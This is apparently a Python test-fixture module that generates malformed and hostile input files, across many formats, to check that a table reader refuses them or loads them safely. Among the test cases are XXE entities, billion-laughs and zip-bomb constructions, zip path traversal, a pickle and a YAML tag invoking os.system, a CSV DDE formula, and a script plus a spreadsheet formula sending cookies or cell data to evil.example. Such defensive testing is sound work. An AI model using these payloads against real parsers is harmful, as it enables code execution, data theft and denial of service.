"""Kinds of harm: a good file goes in, a hostile one comes out, by the shape that its reader takes.

Each says what may happen: `refused` in words, or `loaded` right (which the kind says when it is not the good table).
"""

from __future__ import annotations

import io
import json
import re
import stat
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

REFUSED, LOADED = "refused", "loaded"
EITHER = frozenset({REFUSED, LOADED})
ONLY_REFUSED = frozenset({REFUSED})
SAME = frozenset({"same"})  # loaded, and as the good file is
SAME_OR_REFUSED = frozenset({"same", REFUSED})
TRAP = str(Path(tempfile.gettempdir()) / "compendium-hostile-trap.txt")  # a file that nothing may open
Make = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Kind:
    """One kind: its name in words, the shapes it is for, what may happen, and how it is made.

    `place` is how the file lies there: "" a file, else `link`, `pipe`, `folder`, `device`, `absent`.
    """

    name: str
    shapes: tuple[str, ...]
    may: frozenset[str]
    make: Make = bytes
    place: str = ""
    heavy: bool = False  # tens of megabytes: only among the long tests


TEXT = ("csv", "yaml", "json", "xml", "tags")
PACKED = ("xlsx", "zip")
ANY = (*TEXT, *PACKED, "pdf", "png")


def _put(piece: bytes) -> Make:
    """`piece` in the middle of the file, at the beginning of a line where there is one."""

    def make(good: bytes) -> bytes:
        at = good.rfind(b"\n", 0, len(good) // 2 + 1) + 1
        return good[:at] + piece + good[at:]

    return make


def _in_cell(text: str, header: bool = False) -> Make:
    """`text` as the second cell of the last row (or of the header), quoted as CSV is."""

    def make(good: bytes) -> bytes:
        lines = good.decode("utf-8", "replace").rstrip("\r\n").split("\n")
        at = 0 if header else len(lines) - 1
        separator = max(",;\t", key=lines[0].count)
        cells = lines[at].rstrip("\r").split(separator)
        cells[min(1, len(cells) - 1)] = '"' + text.replace('"', '""') + '"'
        lines[at] = separator.join(cells)
        return ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")

    return make


def _doubled_header(good: bytes) -> bytes:
    head, _, rest = good.partition(b"\n")
    separator = max((b",", b";", b"\t"), key=head.count)
    cells = head.rstrip(b"\r").split(separator)
    return separator.join([*cells[:-1], cells[0]]) + b"\n" + rest


def _other_widths(good: bytes) -> bytes:
    separator = max((b",", b";", b"\t"), key=good.partition(b"\n")[0].count)
    return good.rstrip() + b"\na" + separator + b"b\n" + separator.join([b"a"] * 400) + b"\n"


def _last_row_again(times: int) -> Make:
    def make(good: bytes) -> bytes:
        last = good.rstrip(b"\r\n").rpartition(b"\n")[2] + b"\n"
        return good.rstrip(b"\r\n") + b"\n" + last * (times // len(last))

    return make


def _megabytes(letter: bytes, before: bytes = b"", after: bytes = b"") -> Make:
    return lambda good: good + before + letter * (100_000_000 // len(letter)) + after


# YAML


def _yaml_with(line: str) -> Make:
    return lambda good: good.rstrip(b"\n") + b"\n" + line.encode() + b"\n"


def _yaml_value(value: str) -> Make:
    """The value of the last plain `key: value` line at the left margin."""

    def make(good: bytes) -> bytes:
        text = good.decode()
        found = list(re.finditer(r"(?m)^(\w[\w-]*): +[^\s#{\[].*$", text))[-1]
        return f"{text[: found.start()]}{found[1]}: {value}{text[found.end() :]}".encode()

    return make


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]" for n in range(8)
)

# JSON


def _json_value(value: str) -> Make:
    """The first scalar of the document becomes `value`."""

    def make(good: bytes) -> bytes:
        text = good.decode()
        found = re.search(r'(:\s*)("(?:[^"\\]|\\.)*"|-?\d[\d.eE+-]*|true|false|null)', text)
        assert found, text[:200]
        return f"{text[: found.start()]}{found[1]}{value}{text[found.end() :]}".encode("utf-8", "surrogatepass")

    return make


def _json_twice(good: bytes) -> bytes:
    text = good.decode()
    found = re.search(r'"[^"]+"\s*:\s*("(?:[^"\\]|\\.)*"|-?\d[\d.]*|true|false|null)', text)
    assert found
    return f"{text[: found.start()]}{found[0]}, {text[found.start() :]}".encode()


def _json_each(value: object) -> Make:
    """Every list of the document becomes `value`."""

    def changed(found: object) -> object:
        if isinstance(found, list):
            return value
        return {key: changed(inner) for key, inner in found.items()} if isinstance(found, dict) else found

    return lambda good: json.dumps(changed(json.loads(good.decode("utf-8-sig")))).encode()


# XML


def _xml_type(declaration: str, put: str) -> Make:
    def make(good: bytes) -> bytes:
        text = re.sub(r"<\?xml.*?\?>\s*", "", good.decode(), count=1)
        at = text.index(">", text.index("<record>") if "<record>" in text else 0) + 1
        return f"<!DOCTYPE x [{declaration}]>{text[:at]}{put}{text[at:]}".encode()

    return make


BILLION = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
XXE = f'<!ENTITY x SYSTEM "file://{TRAP}">'

# archives


def _parts(good: bytes) -> Iterator[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        for entry in archive.infolist():
            yield zipfile.ZipInfo(entry.filename), archive.read(entry)


def _packed(parts: Iterator[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in parts:
            archive.writestr(entry, data, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def _with_parts(*more: tuple[str, bytes]) -> Make:
    def make(good: bytes) -> bytes:
        return _packed(iter([*_parts(good), *((zipfile.ZipInfo(name), data) for name, data in more)]))

    return make


MAIN_PART = re.compile(r"xl/worksheets/sheet\d+\.xml|.*\.qde|services\.csv|.*/tables/[^/]*\.csv|styles\.css")


def _in_main(change: Make) -> Make:
    """Change the parts that hold the table."""

    def make(good: bytes) -> bytes:
        return _packed((e, change(d) if MAIN_PART.fullmatch(e.filename) else d) for e, d in _parts(good))

    return make


def _replaced(pattern: str, by: str) -> Make:
    return _in_main(lambda data: re.sub(pattern, lambda _: by, data.decode(), count=1).encode())


def _typed(declaration: str) -> Make:
    def change(data: bytes) -> bytes:
        text = re.sub(r"<\?xml.*?\?>\s*", "", data.decode(), count=1)
        return f"<!DOCTYPE x [{declaration}]>{text}".encode()

    return _in_main(change)


def _link(good: bytes) -> bytes:
    """The part that holds the table is a symbolic link."""

    def parts() -> Iterator[tuple[zipfile.ZipInfo, bytes]]:
        for entry, data in _parts(good):
            if MAIN_PART.fullmatch(entry.filename):
                entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
                yield entry, TRAP.encode()
            else:
                yield entry, data

    return _packed(parts())


def _locked(good: bytes) -> bytes:
    """The flag of a password on every entry."""
    data = bytearray(good)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _many_entries(good: bytes) -> bytes:
    return (
        good[: good.rfind(b"PK\x05\x06")] + b"PK\x05\x06" + struct.pack("<4HLLH", 0, 0, 65_535, 65_535, 1 << 30, 0, 0)
    )


def _lying_size(good: bytes) -> bytes:
    """The directory says that each part holds a byte; reading must not trust it."""
    data, at = bytearray(good), good.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24 : at + 28] = struct.pack("<L", 1)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _overlapping(good: bytes) -> bytes:
    """All entries of the directory lead to the same packed bytes."""
    data, first, at = bytearray(good), None, good.find(b"PK\x01\x02")
    while at >= 0:
        first = first or data[at + 42 : at + 46]
        data[at + 42 : at + 46] = first
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _bomb(good: bytes, packing: int = zipfile.ZIP_DEFLATED, megabytes: int = 600) -> bytes:
    """The table's part followed by 600 MB of blanks."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packing, compresslevel=1) as archive:
        for entry, data in _parts(good):
            with archive.open(entry.filename, "w", force_zip64=True) as part:
                is_table = MAIN_PART.fullmatch(entry.filename) is not None
                head, end, tail = data.rpartition(b"</") if is_table and b"</" in data else (data, b"", b"")
                part.write(head)
                for _ in range(megabytes if is_table else 0):
                    part.write(b" " * (1 << 20))
                part.write(end + tail)
    return made.getvalue()


def _at_once(packing: int) -> Make:
    """A bomb in a way of packing that unpacks a block whole, in an archive that says it holds a byte a part."""
    return lambda good: _lying_size(_bomb(good, packing, 100))


def _in_directory(at: int, value: bytes) -> Make:
    """Other bytes at a place of each entry of the archive's list."""

    def make(good: bytes) -> bytes:
        data, found = bytearray(good), good.find(b"PK\x01\x02")
        while found >= 0:
            data[found + at : found + at + len(value)] = value
            found = data.find(b"PK\x01\x02", found + 4)
        return bytes(data)

    return make


def _endless_list(good: bytes) -> bytes:
    """The record of 64 bits before the end, which counts, says of gigabytes of entries; the end itself of one."""
    record = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 1 << 31, 0)
    place = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(good), 1)
    return (
        good[: good.rfind(b"PK\x05\x06")] + record + place + b"PK\x05\x06" + struct.pack("<4HLLH", 0, 0, 1, 1, 46, 0, 0)
    )


def _beyond(good: bytes) -> bytes:
    """The last part begins at the last of 2^64 bytes."""
    data, at = bytearray(good), good.rfind(b"PK\x01\x02")
    name, extra = struct.unpack("<HH", data[at + 28 : at + 32])
    more = struct.pack("<HHQ", 1, 8, (1 << 64) - 1)
    data[at + 30 : at + 32] = struct.pack("<H", extra + len(more))
    data[at + 42 : at + 46] = b"\xff" * 4
    data[at + 46 + name : at + 46 + name] = more
    end = data.rfind(b"PK\x05\x06")
    data[end + 12 : end + 16] = struct.pack("<L", struct.unpack("<L", data[end + 12 : end + 16])[0] + len(more))
    return bytes(data)


# pictures and prints


def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    head = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), *chunks, (b"IDAT", zlib.compress(b"\0" * 1_000)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data)) for name, data in parts
    )


INNER = _packed(iter([(zipfile.ZipInfo("a.csv"), b"0" * 50_000_000)]))
RAN = f"{TRAP}.ran"  # what a file that is run would make
PROGRAM = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 40 20\n%%EndComments\n({RAN}) (w) file closefile\n%%EOF\n"
FORMULA = f"=cmd|'/C touch {RAN}'!A0"
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
SHORTCODE = f"{{{{< include {TRAP} >}}}} {{{{< env HOME >}}}}"
LINK = f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file://{TRAP}" TargetMode="External"/>'  # noqa: E501  one element

KINDS: tuple[Kind, ...] = (
    # how a file lies there
    Kind("no file", ANY, ONLY_REFUSED, place="absent"),
    Kind("a folder where a file is expected", ANY, ONLY_REFUSED, place="folder"),
    Kind("a pipe nobody writes to", ANY, ONLY_REFUSED, place="pipe"),
    Kind("a device without end", ANY, ONLY_REFUSED, place="device"),
    Kind("a symbolic link out of the locality", ANY, ONLY_REFUSED, place="link"),
    # bytes
    Kind("empty", ANY, ONLY_REFUSED, lambda _: b""),
    Kind("blanks and line ends", ANY, ONLY_REFUSED, lambda _: b" \n\t\r\n" * 50),
    Kind("random bytes", ANY, ONLY_REFUSED, lambda _: bytes((n * 167 + n // 7) % 256 for n in range(5_000))),
    Kind("cut in the middle", PACKED, ONLY_REFUSED, lambda good: good[: len(good) // 2]),
    Kind("NUL bytes", TEXT, ONLY_REFUSED, _put(b"a\0b")),
    Kind("UTF-16", TEXT, SAME_OR_REFUSED, lambda good: good.decode("utf-8", "replace").encode("utf-16")),
    Kind("UTF-32", TEXT, SAME_OR_REFUSED, lambda good: good.decode("utf-8", "replace").encode("utf-32")),
    Kind("a byte order mark", TEXT, SAME, lambda good: b"\xef\xbb\xbf" + good),
    Kind("half a character (lone surrogate)", TEXT, EITHER, _put(b"\xed\xa0\x80")),
    Kind("bytes that no encoding has", TEXT, EITHER, _put(b"\x81\x8d\xff\xfe")),
    Kind("a line of 100 MB", TEXT, ONLY_REFUSED, _megabytes(b"a"), heavy=True),
    Kind("100 MB of line ends", TEXT, SAME_OR_REFUSED, _megabytes(b"\n"), heavy=True),
    Kind("a web page", ANY, ONLY_REFUSED, lambda _: b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    Kind("a program", ANY, ONLY_REFUSED, lambda _: f"#!/bin/sh\ntouch {RAN}\n".encode()),
    Kind("a pickle", ANY, ONLY_REFUSED, lambda _: f"cposix\nsystem\n(S'touch {RAN}'\ntR.".encode()),
    # tables as text
    Kind("a formula in a cell", ("csv",), EITHER, _in_cell(FORMULA)),
    Kind("a formula in the header", ("csv",), EITHER, _in_cell(FORMULA, header=True)),
    Kind("HTML and script in a label", ("csv",), EITHER, _in_cell(SCRIPT)),
    Kind("HTML and script in the header", ("csv",), EITHER, _in_cell(SCRIPT, header=True)),
    Kind("shortcodes in a label", ("csv",), EITHER, _in_cell(SHORTCODE)),
    Kind("a path out of the folder as an id", ("csv",), EITHER, _in_cell("../../../../etc/cron.d/x")),
    Kind("signs that steer a terminal", ("csv",), EITHER, _in_cell("\x1b]0;owned\x07\x1b[2J\u202etxt.exe")),
    Kind("signs that steer a terminal in the header", ("csv",), EITHER, _in_cell("\x1b[2J\u202ex", header=True)),
    Kind("10^308", ("csv",), EITHER, _in_cell("1e308")),
    Kind("a number without end", ("csv",), EITHER, _in_cell("9" * 5_000)),
    Kind("a date of the year 0", ("csv",), EITHER, _in_cell("0000-00-00")),
    Kind("a cell of 5 MB", ("csv",), EITHER, _in_cell("a" * 5_000_000)),
    Kind("a quotation mark that never closes", ("csv",), ONLY_REFUSED, _put(b'"never closed')),
    Kind("headers that stand twice", ("csv",), ONLY_REFUSED, _doubled_header),
    Kind("a row of 100,000 cells", ("csv",), ONLY_REFUSED, _put(b"a," * 100_000 + b"\n")),
    Kind("a header of 100,000 columns", ("csv",), SAME_OR_REFUSED, lambda good: b"a," * 100_000 + good),
    Kind("rows of other widths", ("csv",), ONLY_REFUSED, _other_widths),
    Kind("50 MB of the same row", ("csv",), EITHER, _last_row_again(50_000_000), heavy=True),
    Kind("50 MB of rows of one letter", ("csv",), EITHER, lambda good: good + b"1\n" * 25_000_000, heavy=True),
    Kind("50 MB of commas", ("csv",), ONLY_REFUSED, lambda good: good + b"," * 50_000_000, heavy=True),
    # YAML
    Kind("a billion laughs of YAML", ("yaml",), ONLY_REFUSED, lambda good: good + b"\n" + LAUGHS.encode() + b"\n"),
    Kind("an alias to itself", ("yaml",), ONLY_REFUSED, _yaml_with("loop: &a [*a]")),
    Kind("a merge key", ("yaml",), ONLY_REFUSED, _yaml_with("<<: {id: other}")),
    Kind(
        "a tag that calls a function",
        ("yaml",),
        ONLY_REFUSED,
        _yaml_with(f'run: !!python/object/apply:os.system ["touch {RAN}"]'),
    ),
    Kind(
        "a tag that makes an object", ("yaml",), ONLY_REFUSED, _yaml_with("run: !!python/object/new:pathlib.Path [x]")
    ),
    Kind("a tag of its own", ("yaml",), ONLY_REFUSED, _yaml_with(f"run: !include {TRAP}")),
    Kind(
        "a key twice",
        ("yaml",),
        ONLY_REFUSED,
        lambda good: (
            good + b"\n" + next(line for line in good.splitlines() if b": " in line and line[:1].isalpha()) + b"\n"
        ),
    ),
    Kind("a second document", ("yaml",), ONLY_REFUSED, lambda good: good + b"\n---\nid: other\n"),
    Kind("nested 20,000 deep", ("yaml",), ONLY_REFUSED, _yaml_with("deep: " + "[" * 20_000 + "]" * 20_000)),
    Kind("mappings nested 5,000 deep", ("yaml",), ONLY_REFUSED, _yaml_with("deep: " + "{a: " * 5_000 + "}" * 5_000)),
    Kind("a list as a key", ("yaml",), ONLY_REFUSED, _yaml_with("? [a, b]\n: c")),
    Kind("a key nobody knows", ("yaml",), ONLY_REFUSED, _yaml_with("__class__: x")),
    Kind("a tab for indentation", ("yaml",), ONLY_REFUSED, _yaml_with("a:\n\tb: c")),
    Kind(
        "a directive", ("yaml",), ONLY_REFUSED, lambda good: b"%YAML 9.9\n%TAG ! tag:evil.example,2000:\n---\n" + good
    ),
    Kind("a list where text is expected", ("yaml",), ONLY_REFUSED, _yaml_value("[[], {}]")),
    Kind("infinity where text is expected", ("yaml",), EITHER, _yaml_value(".inf")),
    Kind("a number of 5,000 digits where text is expected", ("yaml",), EITHER, _yaml_value("9" * 5_000)),
    Kind("10^999 where text is expected", ("yaml",), EITHER, _yaml_value("1e999")),
    Kind("a path out of the folder where text is expected", ("yaml",), EITHER, _yaml_value("../../../../etc/passwd")),
    Kind("an absolute path where text is expected", ("yaml",), EITHER, _yaml_value(TRAP)),
    Kind("a NUL in quotes where text is expected", ("yaml",), EITHER, _yaml_value('"a\\0b"')),
    Kind("half a character in quotes", ("yaml",), EITHER, _yaml_value('"\\uD800"')),
    Kind("script where text is expected", ("yaml",), EITHER, _yaml_value(f'"{SCRIPT}"')),
    Kind("shortcodes where text is expected", ("yaml",), EITHER, _yaml_value(f'"{SHORTCODE}"')),
    Kind("only a number", ("yaml", "json"), ONLY_REFUSED, lambda _: b"7\n"),
    Kind("only a list", ("yaml", "json"), ONLY_REFUSED, lambda _: b"[1, 2]\n"),
    # JSON
    Kind("nested 100,000 deep", ("json",), ONLY_REFUSED, lambda _: b"[" * 100_000 + b"]" * 100_000),
    Kind("objects nested 100,000 deep", ("json",), ONLY_REFUSED, lambda _: b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    Kind("a name twice", ("json",), EITHER, _json_twice),
    Kind("NaN", ("json",), ONLY_REFUSED, _json_value("NaN")),
    Kind("10^999", ("json",), EITHER, _json_value("1e999")),
    Kind("a number of 5,000 digits", ("json",), EITHER, _json_value("9" * 5_000)),
    Kind("half a character, escaped", ("json",), EITHER, _json_value('"\\ud800"')),
    Kind("a NUL, escaped", ("json",), EITHER, _json_value('"a\\u0000b"')),
    Kind("a list where text is expected", ("json",), EITHER, _json_value('[["x"]]')),
    Kind("an object where text is expected", ("json",), EITHER, _json_value('{"__proto__": {"x": 1}}')),
    Kind("nothing where text is expected", ("json",), EITHER, _json_value("null")),
    Kind("a path out of the folder as an id", ("json",), EITHER, _json_value('"../../../../etc/passwd"')),
    Kind("script in a label", ("json",), EITHER, _json_value(json.dumps(SCRIPT))),
    Kind("text where lists are expected", ("json",), EITHER, _json_each("text")),
    Kind("numbers in the lists", ("json",), EITHER, _json_each([1, None, "x"])),
    Kind("empty lists", ("json",), EITHER, _json_each([])),
    Kind("cut in the middle", ("json", "yaml"), EITHER, lambda good: good[: len(good) // 2]),
    Kind("30 MB of empty lists", ("json",), ONLY_REFUSED, lambda _: b"[" + b"[]," * 10_000_000 + b"[]]", heavy=True),
    # XML
    Kind("an external entity (XXE)", ("xml",), ONLY_REFUSED, _xml_type(XXE, "&x;")),
    Kind(
        "an external document type",
        ("xml",),
        ONLY_REFUSED,
        lambda good: f'<!DOCTYPE x SYSTEM "file://{TRAP}">'.encode() + good,
    ),
    Kind("a parameter entity", ("xml",), ONLY_REFUSED, _xml_type(f'<!ENTITY % p SYSTEM "file://{TRAP}"> %p;', "")),
    Kind("a billion laughs", ("xml",), ONLY_REFUSED, _xml_type(BILLION, "&j;")),
    Kind("quadratic growth", ("xml",), ONLY_REFUSED, _xml_type(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000)),
    Kind(
        "XInclude",
        ("xml",),
        EITHER,
        _put(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{TRAP}" parse="text"/>'.encode()),
    ),
    Kind("elements nested 200,000 deep", ("xml",), ONLY_REFUSED, _put(b"<a>" * 200_000)),
    Kind("an attribute of 20 MB", ("xml",), ONLY_REFUSED, _put(b'<a b="' + b"x" * 20_000_000 + b'"/>'), heavy=True),
    Kind(
        "an encoding that hides",
        ("xml",),
        EITHER,
        lambda good: b'<?xml version="1.0" encoding="UTF-7"?>' + re.sub(rb"<\?xml.*?\?>", b"", good),
    ),
    Kind(
        "a stylesheet to fetch",
        ("xml",),
        EITHER,
        lambda good: (
            f'<?xml-stylesheet type="text/xsl" href="file://{TRAP}"?>'.encode() + re.sub(rb"<\?xml.*?\?>", b"", good)
        ),
    ),
    Kind("cut in the middle", ("xml",), ONLY_REFUSED, lambda good: good[: len(good) // 2]),
    # references as tagged lines
    Kind(
        "a record that never ends", ("tags",), EITHER, lambda good: good + b"AU  - Somebody, A\n" * 200_000, heavy=True
    ),
    Kind(
        "a tag nobody knows, a million times",
        ("tags",),
        EITHER,
        lambda good: good + b"ZZ  - x\n" * 1_000_000,
        heavy=True,
    ),
    Kind("script in a title", ("tags",), EITHER, lambda good: good.replace(b"TI  - ", b"TI  - " + SCRIPT.encode(), 1)),
    Kind(
        "shortcodes in a title",
        ("tags",),
        EITHER,
        lambda good: good.replace(b"TI  - ", b"TI  - " + SHORTCODE.encode(), 1),
    ),
    Kind("signs that steer a terminal", ("tags",), EITHER, lambda good: good.replace(b"TI  - ", b"TI  - \x1b[2J", 1)),
    Kind(
        "a formula in a title", ("tags",), EITHER, lambda good: good.replace(b"TI  - ", b"TI  - " + FORMULA.encode(), 1)
    ),
    Kind("lines without a tag", ("tags",), EITHER, lambda good: b"no tag here\n" * 5_000 + good),
    # archives
    Kind("a zip bomb", PACKED, ONLY_REFUSED, _bomb, heavy=True),
    Kind(
        "a nested bomb beside the table",
        PACKED,
        SAME_OR_REFUSED,
        _with_parts(("inner.zip", INNER), ("xl/embeddings/inner.xlsx", INNER)),
    ),
    Kind(
        "an entry that leads out",
        PACKED,
        SAME_OR_REFUSED,
        _with_parts(("../../../../tmp/out.txt", b"x"), ("/tmp/out.txt", b"x")),
    ),
    Kind("a drive letter in an entry", PACKED, SAME_OR_REFUSED, _with_parts(("C:\\evil.csv", b"x"))),
    Kind("the table as a symbolic link", PACKED, ONLY_REFUSED, _link),
    Kind("a password", PACKED, ONLY_REFUSED, _locked),
    Kind("65,535 entries", PACKED, ONLY_REFUSED, _many_entries),
    Kind("a size that lies", PACKED, ONLY_REFUSED, _lying_size),
    Kind("entries that overlap", PACKED, SAME_OR_REFUSED, _overlapping),
    Kind("a bomb packed as bzip2", PACKED, ONLY_REFUSED, _at_once(zipfile.ZIP_BZIP2)),
    Kind("a bomb packed as lzma", PACKED, ONLY_REFUSED, _at_once(zipfile.ZIP_LZMA)),
    Kind("a list of entries of gigabytes", PACKED, ONLY_REFUSED, _endless_list),
    Kind("a part beyond all files", PACKED, SAME_OR_REFUSED, _beyond),
    Kind("wrong checksums", PACKED, ONLY_REFUSED, _in_directory(16, b"\1\2\3\4")),
    Kind("every part a device", PACKED, SAME_OR_REFUSED, _in_directory(38, struct.pack("<L", 0o020666 << 16))),
    Kind("parts that are alike but for capitals", PACKED, SAME_OR_REFUSED, _with_parts(("X/y", b"1"), ("x/Y", b"2"))),
    Kind(
        "parts that are alike but for an accent", PACKED, SAME_OR_REFUSED, _with_parts(("é", b"1"), ("e\u0301", b"2"))
    ),
    Kind("a part of a name that steers a terminal", PACKED, SAME_OR_REFUSED, _with_parts(("a\x1b[2J\u202e.csv", b"x"))),
    # pictures and prints
    Kind("a picture of a billion pixels", ("png",), EITHER, lambda _: _png(40_000, 40_000)),
    Kind("a picture of which the half is missing", ("png",), EITHER, lambda good: good[: len(good) // 2]),
    Kind(
        "words that unpack to 100 MB",
        ("png",),
        EITHER,
        lambda _: _png(40, 20, (b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 100_000_000))),
    ),
    Kind("another kind of picture, which calls a program", ("png",), EITHER, lambda _: PROGRAM.encode()),
    Kind("objects without end", ("pdf",), EITHER, lambda _: b"%PDF-1.7\n" + b"1 0 obj\n" * 2_000_000),
    Kind(
        "brackets without end",
        ("pdf",),
        EITHER,
        lambda good: good + b"2 0 obj\n" + b"BT (\\" * 1_000_000 + b"\nendobj\n",
    ),
    Kind(
        "a stream that unpacks to 600 MB",
        ("pdf",),
        EITHER,
        lambda _: b"%PDF-1.7\n1 0 obj\nstream\n" + zlib.compress(b" " * 600_000_000, 1) + b"\nendstream\nendobj\n",
        heavy=True,
    ),
    # pages
    Kind("a megabyte of open brackets", ("xml",), EITHER, lambda good: good + b"<" * 1_000_000),
    Kind("headings that never close", ("xml",), EITHER, lambda good: good + b"<h1>" * 300_000),
    Kind("a part twice", PACKED, EITHER, lambda good: _packed(iter([*_parts(good), *_parts(good)]))),
    Kind("an external entity (XXE)", ("xlsx", "qdpx"), ONLY_REFUSED, _typed(XXE)),
    Kind("a billion laughs", ("xlsx", "qdpx"), ONLY_REFUSED, _typed(BILLION)),
    Kind(
        "elements nested 50,000 deep",
        ("xlsx", "qdpx"),
        ONLY_REFUSED,
        _in_main(lambda data: data.replace(b">", b">" + b"<a>" * 50_000, 1)),
    ),
    # workbooks
    Kind(
        "links to other workbooks",
        ("xlsx",),
        SAME_OR_REFUSED,
        lambda good: _packed(
            (
                e,
                d.replace(b"</Relationships>", LINK.encode() + b"</Relationships>")
                if e.filename.endswith(".rels")
                else d,
            )
            for e, d in _parts(good)
        ),
    ),
    Kind(
        "the table lies outside the workbook",
        ("xlsx",),
        ONLY_REFUSED,
        lambda good: _packed(
            (
                e,
                re.sub(
                    rb'Target="/?(xl/)?worksheets/[^"]*"', f'Target="file://{TRAP}" TargetMode="External"'.encode(), d
                )
                if e.filename.endswith("workbook.xml.rels")
                else d,
            )
            for e, d in _parts(good)
        ),
    ),
    Kind("macros", ("xlsx",), SAME_OR_REFUSED, _with_parts(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 50))),
    Kind(
        "formulas for cells",
        ("xlsx",),
        EITHER,
        _in_main(lambda data: re.sub(rb"<v>", b'<f>WEBSERVICE("http://evil.example/"&amp;A2)</f><v>', data)),
    ),
    Kind(
        "hidden sheets",
        ("xlsx",),
        ONLY_REFUSED,
        lambda good: _packed(
            (
                e,
                re.sub(rb"<sheet (?!s)", b'<sheet state="veryHidden" ', d.replace(b'state="visible"', b""))
                if e.filename == "xl/workbook.xml"
                else d,
            )
            for e, d in _parts(good)
        ),
    ),
    Kind(
        "merged cells",
        ("xlsx",),
        EITHER,
        _in_main(
            lambda data: data.replace(
                b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A2:B3"/></mergeCells>'
            )
        ),
    ),
    Kind("a date that is a number beyond all days", ("xlsx",), EITHER, _replaced(r"<v>[^<]*</v>", "<v>1E+308</v>")),
    Kind(
        "a shared text that is not there",
        ("xlsx",),
        ONLY_REFUSED,
        _replaced(r'<c r="([A-Z]+1)"[^>]*>.*?</c>', '<c r="A1" t="s"><v>99999999</v></c>'),
    ),
    Kind(
        "a cell of 40 MB",
        ("xlsx",),
        ONLY_REFUSED,
        _in_main(
            lambda data: data.replace(
                b"</row>", b'<c t="inlineStr"><is><t>' + b"a" * 40_000_000 + b"</t></is></c></row>", 1
            )
        ),
        heavy=True,
    ),
    Kind(
        "two million rows",
        ("xlsx",),
        EITHER,
        _in_main(
            lambda data: data.replace(b"</sheetData>", b"<row><c><v>1</v></c></row>" * 2_000_000 + b"</sheetData>")
        ),
        heavy=True,
    ),
)
